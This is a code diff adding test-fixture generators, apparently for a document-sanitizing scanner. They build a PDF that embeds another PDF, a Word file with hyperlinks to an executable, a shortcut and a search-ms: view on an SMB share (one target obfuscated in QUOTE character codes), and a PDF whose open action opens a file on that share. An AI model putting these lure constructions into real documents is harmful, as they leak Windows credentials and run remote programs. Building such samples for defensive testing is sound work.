@@ -84,6 +84,15 @@ def pdf_embedded_exe() -> bytes:
     return _save(pdf)
 
 
+def pdf_embedded_pdf(inner: bytes, name: str = "terms.pdf") -> bytes:
+    """A clean PDF carrying another PDF (``inner``) as an embedded file,
+    as a portfolio does."""
+    pdf = pikepdf.open(io.BytesIO(clean_pdf()))
+    spec = _filespec(pdf, name, inner)
+    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String(name), spec])))
+    return _save(pdf)
+
+
 def pdf_file_attachment() -> bytes:
     """A /FileAttachment annotation on the page carrying tool.exe."""
     pdf = pikepdf.open(io.BytesIO(clean_pdf()))
@@ -337,6 +346,46 @@ def docx_remote_fields() -> bytes:
             '<w:p><w:fldSimple w:instr=" HYPERLINK &quot;https://example.com/&quot; \\o &quot;link&quot; ">'
             '<w:r><w:t>site</w:t></w:r></w:fldSimple></w:p>'),
     })
+
+
+SHARE = "198.51.100.7"
+
+
+def docx_file_links() -> bytes:
+    """A Word document whose links open files, not web pages: a hyperlink
+    to a program on an SMB share (a click hands over the agent's Windows
+    credentials and runs it), one to a search-ms: view of that share (the
+    2022 lure), a HYPERLINK field to a shortcut there; and, kept, a web
+    link beside them."""
+    return _package({
+        "[Content_Types].xml": _types("word/document.xml", DOCX_MAIN),
+        "_rels/.rels": _ROOT_RELS,
+        "word/_rels/document.xml.rels": _rels(
+            ("rId2", "hyperlink", f"file://{SHARE}/share/invoice.exe", True),
+            ("rId3", "hyperlink", f"search-ms:query=invoice&amp;crumb=location:\\\\{SHARE}\\share", True),
+            ("rId4", "hyperlink", "https://example.com/pay", True)),
+        "word/document.xml": _document(
+            '<w:p><w:hyperlink r:id="rId2"><w:r><w:t>Open the invoice</w:t></w:r></w:hyperlink></w:p>'
+            '<w:p><w:hyperlink r:id="rId3"><w:r><w:t>Find your documents</w:t></w:r></w:hyperlink></w:p>'
+            f'<w:p><w:fldSimple w:instr=" HYPERLINK &quot;\\\\\\\\{SHARE}\\\\share\\\\statement.lnk&quot; \\o &quot;'
+            'statement&quot; "><w:r><w:t>Your statement</w:t></w:r></w:fldSimple></w:p>'
+            # A HYPERLINK whose target a nested QUOTE field spells in character codes.
+            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> HYPERLINK '
+            '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
+            ' QUOTE 92 92 49 57 56 46 53 49 46 49 48 48 46 55 92 115 92 120 46 108 110 107 </w:instrText></w:r>'
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+            '<w:r><w:t>Your receipt</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+            '<w:p><w:hyperlink r:id="rId4"><w:r><w:t>Pay online</w:t></w:r></w:hyperlink></w:p>'),
+    })
+
+
+def pdf_thread_to_share() -> bytes:
+    """A PDF whose open action follows an article thread into a PDF on an
+    SMB share: the reader opens that file, as for /GoToR."""
+    pdf = pikepdf.open(io.BytesIO(clean_pdf()))
+    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=Name.Thread, F=String(f"\\\\{SHARE}\\share\\x.pdf"),
+                                                       D=0))
+    return _save(pdf)
 
 
 def xlsx_data_connections() -> bytes:
